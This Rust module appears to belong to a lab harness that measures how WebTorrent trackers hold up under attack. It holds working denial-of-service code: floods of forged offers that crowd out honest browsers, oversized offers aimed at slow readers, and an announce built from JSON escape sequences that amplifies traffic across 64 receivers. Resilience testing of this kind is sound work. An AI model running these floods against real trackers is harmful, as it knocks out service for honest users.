//! Offers of WebTorrent that crowd out those of honest browsers, or are more than these can read.

use std::io::{self, Read as _, Write as _};
use std::net::{IpAddr, Shutdown, SocketAddr, TcpStream};
use std::sync::mpsc;
use std::thread::{self, Scope, sleep};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result};
use harness::http::Connection;
use serde_json::Value;

use super::{Site, connect_from, network};
use crate::attacks::sockets::{WebSocket, frame};
use crate::attacks::{CLOSED, HONEST, Outcome, RECEIVES, SENDS, Target};
use crate::figures::mib;
use crate::lab::Protocol;
use crate::record::Figures;

/// A browser that makes offers, another one that answers, and an attacker who makes offers to it, too.
struct Scene {
    case: &'static str,
    /// How long the browser takes to answer.
    delay: Duration,
    /// The attacker's WebSockets, and its offers per second over each.
    sockets: u32,
    per_s: u32,
}

const fn scene(case: &'static str, delay_ms: u64, sockets: u32, per_s: u32) -> Scene {
    Scene { case, delay: Duration::from_millis(delay_ms), sockets, per_s }
}

const SCENES: [Scene; 5] = [
    scene("offers, none; answers after 3 s", 3000, 0, 0),
    scene("offers, 500/s; answers after 3 s", 3000, 1, 500),
    scene("offers, 500/s; answers after 2 s", 2000, 1, 500),
    scene("offers, 1,000/s; answers after 1 s", 1000, 1, 1000),
    scene("offers, 2,700/s over 3; answers after 0.5 s", 500, 3, 900),
];

/// Honest offers, and the time between two.
const OFFERS: u32 = 52;
const BETWEEN: Duration = Duration::from_millis(150);
/// Bytes of a usual session description without candidates.
const SDP: usize = 300;
/// The attacker offers before the honest browser does.
const HEAD_START: Duration = Duration::from_secs(3);

/// Offers of 50 KB at a browser that reads 1 MB/s.
const LARGE_SDP: usize = 50_000;
const LARGE_PER_S: u32 = 100;
const READ_PAUSE: Duration = Duration::from_millis(16);
/// The browser reads on after the attack, to get all that was kept for it.
const READS_ON: Duration = Duration::from_secs(10);

/// Browsers that get the offers of one announce, and how long the attack lasts.
const RECEIVERS: u8 = 64;
const ANNOUNCES_PER_S: u32 = 500;
const AMPLIFIED: Duration = Duration::from_secs(3);

const HONEST_ID: &str = "-HH0001-000000000001";
const ATTACKER: &str = "-AA0001-000000000001";
/// Longer than any scene.
const PATIENCE: Duration = Duration::from_secs(60);

/// Plays all scenes at once, each in a torrent of its own.
pub(super) fn attack(target: &Target<'_>) -> Result<Vec<Outcome>> {
    let site = Site::open(target, Protocol::Udp, &[])?;
    let address = site.address();
    thread::scope(|scope| {
        let start = |(number, scene): (u8, &'static Scene)| {
            scope.spawn(move || scene.play(address, number))
        };
        let scenes: Vec<_> = (1..).zip(&SCENES).map(start).collect();
        let played = scenes.into_iter().map(|scene| scene.join().ok().context("a panic")?);
        played.collect()
    })
}

impl Scene {
    fn play(&self, tracker: SocketAddr, number: u8) -> Result<Outcome> {
        let torrent = &*format!("{number:020}");
        let mut offerer = browser(network::client(1), tracker)?;
        let mut answerer = browser(network::client(2), tracker)?;
        join(&mut answerer, torrent)?;
        let (reads, answers) = (offerer.0.stream.try_clone()?, answerer.0.stream.try_clone()?);
        thread::scope(|scope| {
            let mut ends = vec![reads.try_clone()?, answers.try_clone()?];
            scope.spawn(|| answer_after(self.delay, torrent, answerer, answers));
            let relayed = scope.spawn(|| count_answers(WebSocket(Connection::new(reads))));
            for _ in 0..self.sockets {
                let attacker = browser(network::client(2 + number), tracker)?.0.stream;
                drain(scope, &attacker)?;
                ends.push(attacker.try_clone()?);
                let message = |offer| offer_of(ATTACKER, torrent, offer, SDP);
                scope.spawn(move || send_at(self.per_s, attacker, message));
            }
            sleep(HEAD_START);
            make_offers(&mut offerer, torrent);
            sleep(self.delay + Duration::from_millis(500));
            ends.iter().for_each(end);
            let relayed = relayed.join().unwrap_or_default();
            let part = relayed as f64 / f64::from(OFFERS);
            let text = format!("{relayed} of {OFFERS} answers relayed");
            Ok((self.case, Figures::default().with(HONEST, part), text))
        })
    }
}

/// Makes large offers to a browser that is slower.
pub(super) fn attack_readers(target: &Target<'_>) -> Result<Vec<Outcome>> {
    let site = Site::open(target, Protocol::Udp, &[])?;
    let (tracker, torrent) = (site.address(), "rrrrrrrrrrrrrrrrrrrr");
    let mut reader = browser(network::client(1), tracker)?;
    join(&mut reader, torrent)?;
    let mut offerer = browser(network::client(2), tracker)?;
    let attacker = browser(network::client(3), tracker)?.0.stream;
    thread::scope(|scope| {
        let ends = [&reader.0.stream, &offerer.0.stream, &attacker].map(TcpStream::try_clone);
        let [at_reader, at_offerer, at_attacker] = ends;
        drain(scope, &offerer.0.stream)?;
        drain(scope, &attacker)?;
        let began = Instant::now();
        let reads = scope.spawn(move || (read_slowly(reader), began.elapsed()));
        let message = |offer| offer_of(ATTACKER, torrent, offer, LARGE_SDP);
        scope.spawn(move || send_at(LARGE_PER_S, attacker, message));
        make_offers(&mut offerer, torrent);
        end(&at_attacker?);
        sleep(READS_ON);
        let whole = began.elapsed();
        [at_reader?, at_offerer?].iter().for_each(end);
        let (seen, open_for) = reads.join().ok().context("a panic")?;
        let is_closed = open_for < whole;
        let figures = Figures::default()
            .with(HONEST, seen as f64 / f64::from(OFFERS))
            .with(CLOSED, f64::from(u8::from(is_closed)));
        let how = match is_closed {
            true => format!("closed after {:.1} s", open_for.as_secs_f64()),
            false => "open to the end".to_owned(),
        };
        let text = format!("{seen} of {OFFERS} honest offers arrived; the browser was {how}");
        Ok(vec![("offers of 50 KB, a browser that reads 1 MB/s", figures, text)])
    })
}

/// Makes many small offers with one announce, whose torrent and peer ID grow when they are written as JSON.
pub(super) fn attack_amplification(target: &Target<'_>) -> Result<Vec<Outcome>> {
    let site = Site::open(target, Protocol::Udp, &[])?;
    let (tracker, torrent) = (site.address(), r"\u0001".repeat(20));
    let mut receivers = Vec::new();
    for number in 0..RECEIVERS {
        let source = [198, 18, 100 + number / 8, 1 + number % 8];
        let mut receiver = browser(source, tracker)?;
        join(&mut receiver, &torrent)?;
        receiver.0.stream.set_nonblocking(true)?;
        receivers.push(receiver.0.stream);
    }
    let offer = |number| format!(r#"{{"offer_id":"{number:020}","offer":{{}}}}"#);
    let offers = Vec::from_iter((0..RECEIVERS).map(offer)).join(",");
    let peer_id = r"\u0002".repeat(20);
    let message = |_| announce(&torrent, &peer_id, 0, &offers);
    let socket = browser(network::client(3), tracker)?.0.stream;
    let (began, mut arrived, mut buffer) = (Instant::now(), 0, vec![0; 1 << 20]);
    let sent = thread::scope(|scope| {
        drain(scope, &socket)?;
        let sends = socket.try_clone()?;
        let sent = scope.spawn(move || send_at(ANNOUNCES_PER_S, sends, message));
        while began.elapsed() < AMPLIFIED {
            for receiver in &mut receivers {
                while let Ok(len @ 1..) = receiver.read(&mut buffer) {
                    arrived += len;
                }
            }
            sleep(Duration::from_millis(1));
        }
        end(&socket);
        sent.join().ok().context("a panic")
    })?;
    let [sent, arrived] = [sent, arrived].map(|bytes| bytes as f64 / AMPLIFIED.as_secs_f64());
    let figures = Figures::default().with(SENDS, sent).with(RECEIVES, arrived);
    let ratio = arrived / sent.max(1.0);
    let text = format!("{} in and {} out a second, {ratio:.1} times", mib(sent), mib(arrived));
    Ok(vec![("offers, 64 small ones to 64 browsers", figures, text)])
}

/// Opens a WebSocket, which waits for longer than a scene takes.
fn browser(source: impl Into<IpAddr>, tracker: SocketAddr) -> Result<WebSocket> {
    let stream = connect_from(source.into(), tracker)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    WebSocket::open(Connection::new(stream), "")
}

/// Announces a leecher, to which seeders make offers.
fn join(browser: &mut WebSocket, torrent: &str) -> Result<()> {
    browser.0.send(announce(torrent, "-VV0001-000000000001", 1, ""))?;
    browser.message().map(drop)
}

/// Makes all honest offers.
fn make_offers(offerer: &mut WebSocket, torrent: &str) {
    for number in 0..OFFERS {
        // The tracker may have closed it, which is seen by what arrives.
        let _ = offerer.0.send(offer_of(HONEST_ID, torrent, number, SDP));
        sleep(BETWEEN);
    }
}

/// Returns the announce of a seeder with one offer.
fn offer_of(peer_id: &str, torrent: &str, number: u32, sdp: usize) -> Vec<u8> {
    let sdp = "x".repeat(sdp);
    let offer =
        format!(r#"{{"offer_id":"{number:020}","offer":{{"type":"offer","sdp":"{sdp}"}}}}"#);
    announce(torrent, peer_id, 0, &offer)
}

fn announce(torrent: &str, peer_id: &str, left: u8, offers: &str) -> Vec<u8> {
    frame(&format!(
        r#"{{"action":"announce","info_hash":"{torrent}","peer_id":"{peer_id}","left":{left},"uploaded":0,"downloaded":0,"numwant":64,"offers":[{offers}]}}"#
    ))
}

/// Sends messages at a rate until the connection ends. Returns how many bytes were sent.
fn send_at(per_s: u32, mut stream: TcpStream, message: impl Fn(u32) -> Vec<u8>) -> usize {
    let began = Instant::now();
    let (mut number, mut sent) = (0, 0);
    loop {
        while f64::from(number) < began.elapsed().as_secs_f64() * f64::from(per_s) {
            let message = message(number);
            if stream.write_all(&message).is_err() {
                return sent;
            }
            number += 1;
            sent += message.len();
        }
        sleep(Duration::from_millis(2));
    }
}

/// Answers honest offers, each after a while, until the connection ends.
fn answer_after(delay: Duration, torrent: &str, mut browser: WebSocket, mut answers: TcpStream) {
    let (offered, offers) = mpsc::channel::<(Instant, String)>();
    thread::scope(|scope| {
        scope.spawn(move || {
            for (at, offer_id) in offers {
                sleep((at + delay).saturating_duration_since(Instant::now()));
                let answer = format!(
                    r#"{{"action":"announce","info_hash":"{torrent}","peer_id":"-VV0001-000000000001","to_peer_id":"{HONEST_ID}","offer_id":"{offer_id}","answer":{{"type":"answer","sdp":"z"}}}}"#
                );
                // The tracker may have closed it.
                let _ = answers.write_all(&frame(&answer));
            }
        });
        while let Ok(message) = browser.message() {
            if let Some(offer) = honest_offer(&message) {
                let _ = offered.send((Instant::now(), offer));
            }
        }
        drop(offered);
    });
}

/// Reads 1 MB/s until the connection ends. Returns how many honest offers arrived.
fn read_slowly(mut browser: WebSocket) -> usize {
    let mut seen = 0;
    while let Ok(true) = browser.0.receive_more() {
        while let Some(message) = browser.received() {
            seen += usize::from(honest_offer(&message).is_some());
        }
        sleep(READ_PAUSE);
    }
    seen
}

/// Returns how many answers arrive before the connection ends.
fn count_answers(mut browser: WebSocket) -> usize {
    let messages = std::iter::from_fn(|| browser.message().ok());
    let is_answer = |message: &Vec<u8>| {
        serde_json::from_slice(message).is_ok_and(|message: Value| message["answer"].is_object())
    };
    messages.filter(is_answer).count()
}

/// Returns the ID of the offer in a message, if it is an honest browser's.
fn honest_offer(message: &[u8]) -> Option<String> {
    let message: Value = serde_json::from_slice(message).ok()?;
    let is_honest = message["peer_id"] == HONEST_ID && message["offer"].is_object();
    message["offer_id"].as_str().filter(|_| is_honest).map(str::to_owned)
}

/// Reads what comes over a connection until it ends.
fn drain<'scope>(scope: &'scope Scope<'scope, '_>, stream: &TcpStream) -> Result<()> {
    let mut stream = stream.try_clone()?;
    scope.spawn(move || io::copy(&mut stream, &mut io::sink()));
    Ok(())
}

/// Ends a connection for all threads that use it.
fn end(stream: &TcpStream) {
    // It may have been closed by the tracker.
    let _ = stream.shutdown(Shutdown::Both);
}
